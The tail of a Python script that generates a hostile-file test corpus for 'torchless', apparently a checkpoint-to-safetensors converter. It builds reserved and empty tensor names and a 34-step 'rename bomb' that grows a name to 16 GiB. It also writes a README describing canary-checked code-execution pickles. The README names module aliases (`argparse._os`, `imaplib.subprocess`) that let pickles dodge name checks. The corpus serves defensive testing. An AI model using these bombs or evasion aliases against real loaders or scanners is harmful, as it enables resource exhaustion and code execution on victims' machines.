    assert sorted(keys) == sorted(seen)
    for k in keys:
        (numel,) = struct.unpack("<q", f.read(8))
        assert numel == 1
        (v,) = struct.unpack("<f", f.read(4))
        assert v == float(int(k))
    assert f.read() == b""


def make_names_and_options():
    emit("name_metadata.pt",
         torch_zip(state_dict([("weight", P.weight), ("__metadata__", P.weight)], 2),
                   [("0", WEIGHT)]),
         "names",
         "Tensors `weight` and `__metadata__` (both views of `data/0`). `__metadata__` is the "
         "reserved key of the safetensors header: written as a tensor name it produces a "
         "header that safetensors readers reject or misread. torchless must refuse (or "
         "rename with an explicit rule).",
         expect="__metadata__", commands=["convert"])

    emit("name_empty.pt",
         torch_zip(state_dict([("weight", P.weight), ("", P.weight)], 2), [("0", WEIGHT)]),
         "names",
         "Tensors `weight` and `''` (the empty string). An empty tensor name is legal in a "
         "Python dict but not a usable safetensors name. torchless must refuse it with a "
         "message saying the name is empty.",
         expect="empty", commands=["convert"])

    # verify rename bomb
    opts = {"rename": ["^(.*)$=$1$1"] * 34, "dtype": "keep", "skip_unsupported": False}
    meta = {"format": "pt", "torchless.options": json.dumps(opts, separators=(",", ":"))}
    header = {"__metadata__": meta,
              "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((-len(h)) % 8)
    st = struct.pack("<Q", len(h)) + h + WEIGHT
    (OUT / "verify_rename_bomb.input.pt").write_bytes(
        torch_zip(state_dict([("a", P.weight)], 2), [("0", WEIGHT)]))
    check_pickle(data_pkl_of(OUT / "verify_rename_bomb.input.pt"))
    emit("verify_rename_bomb.safetensors", st, "options",
         "A valid safetensors file with one F32 [4] tensor `a` whose `__metadata__` holds "
         "`format: pt` and `torchless.options` = `{\"rename\": [34 x \"^(.*)$=$1$1\"], "
         "\"dtype\": \"keep\", \"skip_unsupported\": false}` (RecordedOptions as "
         "serde_json writes it). `verify verify_rename_bomb.input.pt "
         "verify_rename_bomb.safetensors` (the input is a torch.save zip with one tensor `a` "
         "= the same 4 floats) replays the recorded renames: each doubles the name, so `a` "
         "becomes 2**34 bytes (16 GiB). Options read from a file are untrusted: torchless "
         "must bound the number of rules and the length of a renamed name.",
         expect="name", commands=["verify"],
         extra={"input": "verify_rename_bomb.input.pt"})


README_HEAD = """# Hostile-file corpus

Generated by `scripts/make_hostile.py` (Python standard library only; every
pickle and zip is written by hand, so the files are byte-identical on every
run). Do not edit by hand -- re-run the script.

`manifest.json` = `{"files": [entry]}`, one entry per file:

* `file`, `class` (`code-execution`, `resource`, `names`, `options`);
* `commands`: the CLI commands the file applies to (`convert FILE`,
  `inspect FILE`, `classify --model FILE`, `embed` / `generate` with FILE as a
  model folder's `pytorch_model.bin`; `verify INPUT FILE` with `input` naming
  the checkpoint to pass as INPUT);
* `expect`: a substring the error message must contain (null: no error);
  `expect_ok`: the command must succeed;
* `canary` / `canary_paths`: files the payload creates when it runs -- a test
  must check they do not exist afterwards;
* `proven`: the script loaded the file's `data.pkl` with Python's real
  `pickle.Unpickler` (only `torch.*` globals and persistent ids stubbed out,
  torch not being installed) and saw every canary appear.

Every `.pt` here except `legacy_many_storages.pt` is a torch.save-shaped zip
(root folder `archive/`, `data.pkl`, `byteorder`, `data/<key>`, `version`)
whose `data.pkl` holds a real float32 tensor `weight` (4 floats, `data/0`)
next to the hostile part. Module names used to dodge name checks:
`argparse._os` is os, `imaplib.subprocess` is subprocess.

"""


def write_readme():
    lines = [README_HEAD]
    for name, text, proven in README:
        if proven:
            text += " **Proven** to run with Python's unpickler."
        lines.append(f"## {name}\n\n{text}\n")
    lines.append("## verify_rename_bomb.input.pt\n\nThe INPUT for "
                 "`verify_rename_bomb.safetensors`: a valid torch.save zip with one "
                 "float32 tensor `a` (the same 4 floats).\n")
    (OUT / "README.md").write_text("\n".join(lines))


def clean():
    old = OUT / "manifest.json"
    if old.exists():
        try:
            for e in json.loads(old.read_text())["files"]:
                for n in [e["file"], e.get("input")]:
                    if n:
                        (SEEDS_CKPT / n).unlink(missing_ok=True)
                        (SEEDS_PICKLE / f"{n}.pkl").unlink(missing_ok=True)
        except (ValueError, KeyError):
            pass
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)


def copy_seeds():
    copied = []
    names = [e["file"] for e in MANIFEST] + ["verify_rename_bomb.input.pt"]
    for n in names:
        src = OUT / n
        if SEEDS_CKPT.is_dir() and src.stat().st_size <= SEED_LIMIT:
            shutil.copyfile(src, SEEDS_CKPT / n)
            copied.append(f"checkpoint/{n}")
        if SEEDS_PICKLE.is_dir() and zipfile.is_zipfile(src):
            (SEEDS_PICKLE / f"{n}.pkl").write_bytes(data_pkl_of(src))
            copied.append(f"pickle/{n}.pkl")
    return copied


def make_deflated():
    """A valid archive whose records are all DEFLATE-compressed (zipfile, not torch.save)."""
    src = ROOT / "tests/fixtures/convert/zip_state_dict.pt"
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            out = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            out.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(out, zin.read(info.filename))
    # Written directly: `emit`'s inert pickle check does not model torch's OrderedDict state.
    (OUT / "deflated_state_dict.pt").write_bytes(buf.getvalue())
    note("deflated_state_dict.pt", "compressed records (valid)",
         "`tests/fixtures/convert/zip_state_dict.pt` re-zipped by Python's zipfile with every "
         "record DEFLATE-compressed (torch's own reader, miniz, inflates them). Not an attack: "
         "the values must equal the zoo's `zip_state_dict.pt` entry, with contiguous tensors "
         "streamed out of the compressed record a chunk at a time instead of inflated whole.",
         expect=None, expect_ok=True, commands=["convert", "inspect"])


def main():
    clean()
    make_code_execution()
    make_resource_bombs()
    make_names_and_options()
    make_deflated()
    (OUT / "manifest.json").write_text(json.dumps({"files": MANIFEST}, indent=1) + "\n")
    write_readme()
    seeds = copy_seeds()
    total = 0
    for f in sorted(OUT.iterdir()):
        total += f.stat().st_size
        print(f"{f.stat().st_size:>10}  {hashlib.sha256(f.read_bytes()).hexdigest()[:16]}  {f.name}")
    print(f"{total} bytes in {OUT.relative_to(ROOT)}; {len(seeds)} seeds copied")
    for e in MANIFEST:
        if e["canary"]:
            print(f"  proven={e['proven']!s:5}  {e['file']}")


if __name__ == "__main__":
    sys.exit(main())
